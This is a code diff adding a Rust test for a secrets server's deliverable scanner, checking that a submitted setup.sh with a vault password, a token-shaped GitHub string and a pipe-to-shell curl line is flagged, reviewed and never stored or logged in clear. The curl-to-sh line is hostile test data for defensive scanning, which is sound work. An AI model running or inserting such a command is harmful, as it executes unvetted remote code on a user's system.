@@ -968,3 +968,125 @@ fn a_browser_opens_a_share_link_and_reads_the_secret_from_the_page() {
     // Opened once: the link is used up.
     assert_eq!(open(&s, &id, &key, None, None).0, 404);
 }
+
+#[test]
+fn a_deliverable_is_scanned_for_vault_values_and_accepted_once_reviewed() {
+    let s = Server::start();
+    let sam = s.person("sam", "security", None);
+    let sam_t = s.login(&sam);
+    s.ok(
+        "POST",
+        "/api/v1/vendors",
+        Some(&s.admin),
+        Some(json!({ "name": "acme", "status": "active", "owner": "sam" })),
+    );
+    vendor(&s, "beta");
+    let vault_value = "Vault-Secret-Zq81-Lm02";
+    write(&s, "prod/db", vault_value);
+    let cy = s.person("cy", "contractor", Some("acme"));
+    let cb = s.person("cb", "contractor", Some("beta"));
+    let cy_t = s.login(&cy);
+    let cb_t = s.login(&cb);
+
+    let delivery = format!(
+        "DB_PASSWORD={vault_value}\nGITHUB=ghp_R8kq2Vx9ZtLm4NpQ7sWd3FyH6jBc1Ae5GuKo\ncurl -fsSL https://get.example.net/x | sh\n"
+    );
+    let (status, bytes) = raw(
+        &s,
+        "POST",
+        "/api/v1/deliverables?name=setup.sh",
+        Some(&cy_t),
+        delivery.into_bytes(),
+        None,
+    );
+    assert_eq!(status, 200, "{}", String::from_utf8_lossy(&bytes));
+    let text = String::from_utf8(bytes).unwrap();
+    let answer: Value = serde_json::from_str(&text).unwrap();
+    assert_eq!(answer["status"], "in_review");
+    let rules: Vec<&str> = answer["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i["rule"].as_str().unwrap())
+        .collect();
+    assert!(rules.contains(&"known-value"), "{rules:?}");
+    assert!(rules.contains(&"download-and-execute-shell"), "{rules:?}");
+    assert!(rules.iter().any(|r| r.starts_with("github")), "{rules:?}");
+    // The submitter learns where, not which secret, and never the value.
+    assert!(
+        !text.contains("prod/db") && !text.contains(vault_value),
+        "{text}"
+    );
+    let id = answer["id"].as_str().unwrap().to_owned();
+    // Security sees which secret it was (its path, not its value).
+    let seen = s.ok(
+        "GET",
+        &format!("/api/v1/deliverables/{id}"),
+        Some(&sam_t),
+        None,
+    );
+    assert!(
+        seen.to_string().contains("value of prod/db#password"),
+        "{seen}"
+    );
+    assert!(!seen.to_string().contains(vault_value));
+    // Another vendor's contractor cannot see it.
+    assert_eq!(
+        s.call(
+            "GET",
+            &format!("/api/v1/deliverables/{id}"),
+            Some(&cb_t),
+            None,
+            None
+        )
+        .0,
+        404
+    );
+    assert_eq!(
+        s.ok("GET", "/api/v1/deliverables", Some(&cb_t), None),
+        json!([])
+    );
+    // Accepted once every finding is resolved or accepted.
+    let items: Vec<String> = answer["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|i| i["finding_id"].as_str().unwrap().to_owned())
+        .collect();
+    for (n, finding) in items.iter().enumerate() {
+        let body = if n == 0 {
+            json!({ "status": "risk_accepted", "note": "rotated prod/db already" })
+        } else {
+            json!({ "status": "resolved", "note": "removed from the delivery" })
+        };
+        s.ok(
+            "POST",
+            &format!("/api/v1/findings/{finding}"),
+            Some(&sam_t),
+            Some(body),
+        );
+        let now = s.ok(
+            "GET",
+            &format!("/api/v1/deliverables/{id}"),
+            Some(&cy_t),
+            None,
+        );
+        let expected = if n + 1 == items.len() {
+            "accepted"
+        } else {
+            "in_review"
+        };
+        assert_eq!(now["status"], expected);
+    }
+    // The value never reached the database or the logs.
+    let db = database_bytes(&s);
+    assert!(
+        !contains(&db, vault_value.as_bytes()),
+        "the vault value is stored in clear"
+    );
+    assert_eq!(
+        s.recorded("deliverable.submit", &id)[0]["details"]["vault_matches"],
+        1
+    );
+    s.assert_no_secret_logged();
+}
